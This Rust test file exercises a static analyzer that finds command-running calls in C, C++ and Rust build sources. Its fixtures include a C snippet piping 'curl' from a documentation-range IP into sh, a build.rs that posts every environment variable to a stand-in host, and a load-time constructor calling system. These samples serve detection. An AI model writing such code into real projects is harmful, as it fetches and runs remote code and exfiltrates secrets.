//! What is read of small sources, and what runs it.

use super::*;

/// What runs each call, its name and its command or code.
fn shown(path: &str, text: &str) -> Vec<String> {
    let ProgramReading { parts, gaps } = read_program_source(path, text).unwrap_or_default();
    assert_eq!(gaps, []);
    let show = |part: &ProgramPart, operation: &Operation| {
        let first = operation.arguments.first().map_or("", |(_, text)| text.as_str());
        format!("{:?} {} {first}", part.run_by, operation.name)
    };
    parts.iter().flat_map(|part| part.operations.iter().map(move |o| show(part, o))).collect()
}

#[test]
fn what_a_constructor_starts_is_run_by_loading() {
    let source = r#"
        static int helper(void) { return system("id"); }
        __attribute__((constructor)) static void set_up(void) { if (1) helper(); }
        static PyObject *called(PyObject *s, PyObject *a) { return PyLong_FromLong(system("date")); }
        static PyMethodDef methods[] = {{"called", called, 1, ""}, {NULL}};
        PyMODINIT_FUNC PyInit_demo(void) { return PyModule_Create(&mod); }
    "#;
    let shown = shown("src/a.c", source);
    assert!(shown.iter().any(|s| s == "Load c:system id"), "{shown:?}");
    assert!(shown.iter().any(|s| s == "Caller c:system date"), "{shown:?}");
}

#[test]
fn texts_are_put_together_of_what_the_source_names() {
    let source = r#"
        #define HOST "203.0.113.9"
        static const char *words[] = {"/bin/sh", "-c", "echo hello", NULL};
        void f(void) {
            char line[256];
            snprintf(line, sizeof line, "curl -s http://%s/%d | sh", HOST, getpid());
            popen(line, "r");
            execv("/bin/sh", words);
            obj.system("not this");
        }
    "#;
    let shown = shown("a.cpp", source);
    assert!(shown.iter().any(|s| s.starts_with("Caller c:popen curl -s http://203.0.113.9/")), "{shown:?}");
    assert!(shown.iter().any(|s| s.starts_with("Caller sh:curl")), "{shown:?}");
    assert!(shown.iter().any(|s| s == "Caller c:execv /bin/sh -c 'echo hello'"), "{shown:?}");
    assert!(!shown.iter().any(|s| s.contains("not this")), "{shown:?}");
}

#[test]
fn the_environment_flows_through_names_into_a_command_of_a_build_script() {
    let source = r#"
        use std::{env, process::Command};
        fn main() {
            let mut report = String::new();
            for (k, v) in env::vars() { report.push_str(&format!("{k}={v}\n")); }
            let mut tool = Command::new("curl");
            tool.arg("-d").arg(&report);
            tool.arg("https://collect.invalid/b").spawn();
        }
    "#;
    let parts = read_program_source("build.rs", source).unwrap().parts;
    let [part] = parts.as_slice() else { panic!("{parts:?}") };
    assert_eq!(part.run_by, RunBy::Build);
    let sent = part.operations.iter().find(|o| o.name == "sh:curl").unwrap();
    let first = part.operations.first().unwrap();
    assert_eq!((first.name.as_str(), sent.inputs.contains(&0)), ("rs:env::vars", true), "{parts:?}");
}

#[test]
fn other_members_and_sources_that_start_nothing_are_left_out() {
    assert!(read_program_source("a.py", "system('x')").is_none());
    assert!(!is_program_source("a.c", b"int main(void) { return 0; }"));
    assert!(!is_program_source("a.rs", b"fn main() {}"));
    for text in ["", "system(", "f() { system(\"a\" }", "{{{{", "#define", "popen(\"", "Command::new("] {
        let _ = read_program_source("a.c", text);
        let _ = read_program_source("build.rs", text);
    }
}

#[test]
fn what_is_not_read_of_a_source_is_said() {
    let many = "void f(void) { system(\"id\"); }\n".repeat(MAX_CALLS + 1);
    let long = format!("void f(void) {{ system(\"id\"); }}\n//{}", " ".repeat(MAX_SOURCE));
    let nested = "f() { system(\"id\"); ".repeat(3_000);
    for source in [many, long, nested] {
        let reading = read_program_source("a.c", &source).unwrap();
        assert!(!reading.parts.is_empty() && reading.gaps.len() == 1, "{:?}", reading.gaps);
    }
}

#[test]
fn work_stays_in_proportion_to_the_source() {
    let pieces = [
        "f(){",
        "strcpy(",
        "a=",
        "system(",
        "#define",
        "#",
        "r",
        "R\"",
        "fn a ",
        "constructor ",
        "format!(",
        "Command::new(",
        "(",
        "let a=env::vars();",
        "execv(a,",
        "popen(strcat(a,",
        "x.y(",
        "'\\",
    ];
    for piece in pieces {
        let text = format!("system(1); Command {}", piece.repeat(200_000 / piece.len()));
        for path in ["a.c", "build.rs"] {
            let _ = read_program_source(path, &text);
        }
    }
}

#[test]
fn names_that_only_hold_the_name_of_a_start_are_no_start() {
    assert!(!is_program_source(
        "sqlite3.c",
        b"int sqlite3_exec(sqlite3 *db); /* the system of pages */".as_slice()
    ));
    assert!(!is_program_source("a.c", b"filesystem(x); execute(self); executor.run();"));
    let text = format!("f(\"the file system (see there){}\");", " ".repeat(MAX_SOURCE));
    assert!(!is_program_source("long.c", text.as_bytes()));
    for source in ["x=system (\"id\");", "execvp(a, b)", "PyRun_SimpleString(\"1\")", "CreateProcessW(0)"] {
        assert!(is_program_source("a.c", source.as_bytes()), "{source}");
    }
}

#[test]
fn texts_that_grow_or_repeat_end_within_the_budget_and_the_calls_stay() {
    let long = "b".repeat(60_000);
    let start = "f() { system(\"id\"); }";
    let grown = format!("{start}{}", "strcat(a,\"b\");".repeat(140_000));
    let doubled = format!("{start}a=\"b\";{}", "a=a a;".repeat(300_000));
    let filled = format!("{start}a=\"{long}\";{}", "snprintf(c,9,\"%s%s\",a,a);".repeat(70_000));
    let listed =
        format!("{start}a=\"{long}\";w[]={{{}}};g(){{{}}}", "a,".repeat(64), "execv(a,w);".repeat(400));
    for source in [grown, doubled, filled, listed] {
        let reading = read_program_source("a.c", &source).unwrap();
        let has_start = |o: &Operation| o.argument(Role::Command) == Some("id");
        let found = reading.parts.iter().flat_map(|part| &part.operations).any(has_start);
        assert!(found && reading.gaps.len() == 1, "{:?}", reading.gaps);
    }
    let braces = format!("let f=\"{}\";", "{a}".repeat(20_000));
    let formats = "Command::new(format!(f));".repeat(400);
    let source = format!("let a=\"{long}\";{braces}fn main(){{Command::new(\"id\");{formats}}}");
    let reading = read_program_source("build.rs", &source).unwrap();
    assert!(reading.parts.iter().flat_map(|part| &part.operations).count() >= 401);
}

#[test]
fn command_lines_that_many_calls_start_are_read_once_within_a_budget() {
    let commands = |text: &str, call: &dyn Fn(usize) -> String| {
        let calls: String = (0..400).map(call).collect();
        let source = format!("a=\"{}\";f(){{system(\"id\");{calls}}}", text);
        let reading = read_program_source("a.c", &source).unwrap();
        let operations: Vec<Operation> = reading.parts.into_iter().flat_map(|p| p.operations).collect();
        (operations.iter().filter(|o| o.name == "c:system").count(), operations.len(), reading.gaps.len())
    };
    let (n_calls, n_all, _) = commands(&"$(".repeat(30_000), &|_| "system(a);".to_owned());
    assert!(n_calls == 401 && n_all > 401, "{n_calls} {n_all}");
    let (n_calls, _, n_gaps) = commands(&"echo a > f;".repeat(5_000), &|n| format!("system(a \"{n}\");"));
    assert_eq!((n_calls, n_gaps), (401, 1));
    let (n_calls, _, n_gaps) = commands("", &|n| format!("system(\"echo {n}\");"));
    assert_eq!((n_calls, n_gaps), (401, 0));
}
